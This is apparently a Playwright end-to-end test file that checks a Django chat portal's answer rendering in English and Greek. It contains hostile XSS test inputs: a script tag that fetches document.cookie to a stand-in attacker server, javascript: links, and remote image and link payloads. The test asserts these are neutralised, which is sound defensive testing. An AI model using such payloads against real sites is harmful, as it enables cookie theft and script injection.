"""Headless Chromium shows exactly the server's HTML for an answer, live and from history, in English and Greek.

One renderer (guards.render.markdown_html, through chat.events.answer_html) makes every answer's HTML; chat.js
renders no markdown. Here hostile answers (a script tag, a ``javascript:`` link, an image on a remote host, a
``//evil`` link) and a Greek answer with citations [1][2] go through the real pages of a live Daphne:

- the history page: the ``.md`` DOM of each stored answer is the server's HTML, in the reader's language;
- the live answer: streamed tokens show as plain text (no element is created from them), then the final event's
  ``html`` is put in place as it is. The socket is Playwright's stand-in, so that the answer can be hostile: the
  events it sends are built by the server's own :func:`chat.events.answer_event`.

Everywhere: citation markers are links to the source view, there is no ``<img>``, no live link off the portal, and
the "attacker" server receives no request.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.utils import translation
from playwright.sync_api import sync_playwright

from chat.events import answer_event, answer_html, token_event
from chat.models import ChatSession, Query, Response
from tests.e2e.test_chat_browser import CHROMIUM_ARGS, _console_errors, _Evil, sign_in_and_open_a_session
from tests.e2e.test_chat_browser import evil_server as evil_server  # noqa: PLC0414 - re-exported: a fixture, used by name

pytestmark = [pytest.mark.slow, pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

CITES = [
    {"number": 1, "chunk_id": 5, "document_id": 4, "document_title": "ΦΕΚ Α 136/2020", "location": "σ. 2",
     "quote": "Επιτροπή Ελέγχου", "url": "/documents/4/source/?chunk=5"},
    {"number": 2, "chunk_id": 6, "document_id": 4, "document_title": "ΦΕΚ Α 136/2020", "location": "σ. 3",
     "quote": "μέλη", "url": "/documents/4/source/?chunk=6"},
]  # fmt: skip
GREEK = "Η **Επιτροπή Ελέγχου** είναι ανεξάρτητη [1] και τα μέλη της ορίζονται από τη γενική συνέλευση [2]."

# What a page may make of an answer, read from its DOM.
DOM_REPORT = """(md) => ({
  html: md.innerHTML,
  elements: md.children.length,
  images: md.querySelectorAll('img, iframe, object, embed, script, style').length,
  links: Array.from(md.querySelectorAll('a[href]')).map(a => ({href: a.getAttribute('href'), cls: a.className,
    origin: new URL(a.href).origin === location.origin})),
  handlers: Array.from(md.querySelectorAll('*')).filter(e => Array.from(e.attributes).some(
    a => a.name.startsWith('on') || a.name === 'style' || a.name === 'src')).length,
})"""


def _hostile(evil: str) -> list[str]:
    return [
        f"Done <script>fetch('{evil}/script?c='+document.cookie)</script> [click](javascript:alert(1)) [1]",
        f"Έτοιμο <script>fetch('{evil}/script-el')</script> [πατήστε](javascript:alert(1)) [2]",
        f"See ![chart]({evil}/img?q=secret) and [more](//127.0.0.1:{evil.rsplit(':', 1)[1]}/proto) [1]",
        f"Δείτε ![διάγραμμα]({evil}/img-el?q=μυστικό), [εδώ]({evil}/link-el) και [πηγή](/documents/4/source/) [2]",
        GREEK,
    ]


def _assert_safe(report: dict[str, Any], *, refs: int) -> None:
    assert report["images"] == 0 and report["handlers"] == 0, report
    assert all(link["origin"] for link in report["links"]), report  # no live link off the portal
    marked = [link for link in report["links"] if link["cls"] == "ref"]
    assert len(marked) == refs, report
    assert all(link["href"].startswith("/documents/4/source/?chunk=") for link in marked), report


def test_history_page_shows_the_servers_html_in_greek(live_daphne, reader, evil_server):
    texts = _hostile(evil_server)
    session = ChatSession.objects.create(user=reader, title="Εχθρικές απαντήσεις")
    for text in texts:
        query = Query.objects.create(user=reader, session=session, text="Τι είναι η Επιτροπή Ελέγχου;")
        Response.objects.create(query=query, text=text, status="completed", citations=CITES)
    with translation.override("el"):
        expected = [answer_html(text, CITES) for text in texts]
    base = live_daphne.http
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="el-GR")
        console_errors = _console_errors(context)
        page = context.new_page()
        try:
            sign_in_and_open_a_session(page, base)
            page.goto(f"{base}/chat/{session.pk}/")
            page.wait_for_function("() => document.getElementById('connection').textContent === ''")
            mds = page.locator("#exchanges .answer .md")
            assert mds.count() == len(texts)
            reports = [mds.nth(i).evaluate(DOM_REPORT) for i in range(len(texts))]
            page.wait_for_load_state("networkidle")
        finally:
            context.close()
            browser.close()
    assert [r["html"] for r in reports] == expected  # the browser shows exactly the server's HTML
    for text, report in zip(texts, reports, strict=True):
        _assert_safe(report, refs=2 if text == GREEK else 1)
    assert "[η εικόνα δεν φορτώθηκε: διάγραμμα" in reports[3]["html"]  # the reader's language
    assert f"εδώ (εξωτερικός σύνδεσμος: {evil_server}/link-el)" in reports[3]["html"]
    assert [link["href"] for link in reports[3]["links"]] == ["/documents/4/source/", "/documents/4/source/?chunk=6"]
    assert "<strong>Επιτροπή Ελέγχου</strong>" in reports[4]["html"]
    assert _Evil.hits == []
    assert console_errors == [], console_errors


def test_live_answer_streams_as_plain_text_then_shows_the_final_events_html(
    live_daphne,
    reader,
    evil_server,
):
    hostile = _hostile(evil_server)
    answers = [hostile[0], hostile[3], GREEK]
    with translation.override("en"):
        finals = [
            answer_event(text=t, citations=CITES, response_id=0, query_id=0, status="completed")  # type: ignore[arg-type]
            for t in answers
        ]
    sockets: list[Any] = []
    asked: list[str] = []

    def stand_in(ws) -> None:
        def on_message(message) -> None:
            event = json.loads(message)
            if event["type"] == "question":
                asked.append(event["text"])
                text = answers[len(asked) - 1]
                for i in range(0, len(text), 7):
                    ws.send(json.dumps(token_event(text[i : i + 7])))

        ws.on_message(on_message)
        sockets.append(ws)

    base = live_daphne.http
    reports = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="en-US")
        console_errors = _console_errors(context)
        page = context.new_page()
        page.route_web_socket("**/ws/chat/**", stand_in)
        try:
            sign_in_and_open_a_session(page, base)
            for n, (text, final) in enumerate(zip(answers, finals, strict=True)):
                page.fill("#question", f"question {n}")
                page.click("#send")
                md = page.locator("#exchanges .answer .md").nth(n)
                page.wait_for_function("([md, t]) => md.textContent === t", arg=[md.element_handle(), text])
                streaming = md.evaluate(DOM_REPORT)
                assert streaming["elements"] == 0, streaming  # tokens are text: nothing rendered from them
                assert page.locator("#exchanges .answer.status-streaming").count() == 1
                sockets[-1].send(json.dumps(final))
                page.wait_for_selector(f"#exchanges .answer.answered >> nth={n}")
                reports.append(md.evaluate(DOM_REPORT))
                chips = page.locator("#exchanges .answer").nth(n).locator(".citations .chip")
                assert chips.count() == 2
                assert chips.first.get_attribute("href") == "/documents/4/source/?chunk=5"
            page.wait_for_load_state("networkidle")
        finally:
            context.close()
            browser.close()
    assert asked == ["question 0", "question 1", "question 2"]
    assert [r["html"] for r in reports] == [f["html"] for f in finals]  # exactly the server's HTML
    for text, report in zip(answers, reports, strict=True):
        _assert_safe(report, refs=2 if text == GREEK else 1)
    assert "&lt;script&gt;" in reports[0]["html"] and "[click](javascript:alert(1))" in reports[0]["html"]
    assert "image not loaded" in reports[1]["html"] and "external link" in reports[1]["html"]
    assert _Evil.hits == []
    assert console_errors == [], console_errors


def test_streamed_text_keeps_its_line_breaks_until_the_final_html(live_daphne, reader):
    """Streamed plain text reads as its lines while it streams (not one run-on line), in English and Greek.

    The final event's HTML then lays them out (a list, paragraphs).
    """
    answers = [
        "Steps:\n1. Open the admin\n2. Upload the PDF\n\nThen ask [1]",
        "Βήματα:\n1. Ανοίξτε τη διαχείριση\n2. Ανεβάστε το PDF\n\nΜετά ρωτήστε [1]",
    ]
    with translation.override("en"):
        finals = [
            answer_event(text=t, citations=CITES[:1], response_id=0, query_id=0, status="completed")  # type: ignore[arg-type]
            for t in answers
        ]
    sockets: list[Any] = []
    asked: list[str] = []

    def stand_in(ws) -> None:
        def on_message(message) -> None:
            if json.loads(message)["type"] == "question":
                text = answers[len(asked)]
                asked.append(text)
                for i in range(0, len(text), 5):
                    ws.send(json.dumps(token_event(text[i : i + 5])))

        ws.on_message(on_message)
        sockets.append(ws)

    streamed_lines: list[list[str]] = []
    final_lines: list[list[str]] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="en-US")
        console_errors = _console_errors(context)
        page = context.new_page()
        page.route_web_socket("**/ws/chat/**", stand_in)
        try:
            sign_in_and_open_a_session(page, live_daphne.http)
            for n, (text, final) in enumerate(zip(answers, finals, strict=True)):
                page.fill("#question", f"question {n}")
                page.click("#send")
                md = page.locator("#exchanges .answer .md").nth(n)
                page.wait_for_function("([md, t]) => md.textContent === t", arg=[md.element_handle(), text])
                assert page.locator("#exchanges .answer.status-streaming").count() == 1
                streamed_lines.append([line for line in md.inner_text().split("\n") if line.strip()])
                sockets[-1].send(json.dumps(final))
                page.wait_for_selector(f"#exchanges .answer.answered >> nth={n}")
                final_lines.append([line for line in md.inner_text().split("\n") if line.strip()])
        finally:
            context.close()
            browser.close()
    # innerText is the text as laid out: with collapsed white space the four lines came back as one
    assert streamed_lines[0][:3] == ["Steps:", "1. Open the admin", "2. Upload the PDF"], streamed_lines
    assert streamed_lines[1][:3] == ["Βήματα:", "1. Ανοίξτε τη διαχείριση", "2. Ανεβάστε το PDF"], streamed_lines
    assert all(len(lines) == 4 for lines in streamed_lines), streamed_lines
    assert all(len(lines) >= 3 for lines in final_lines), final_lines  # the server's HTML keeps them apart too
    assert console_errors == [], console_errors
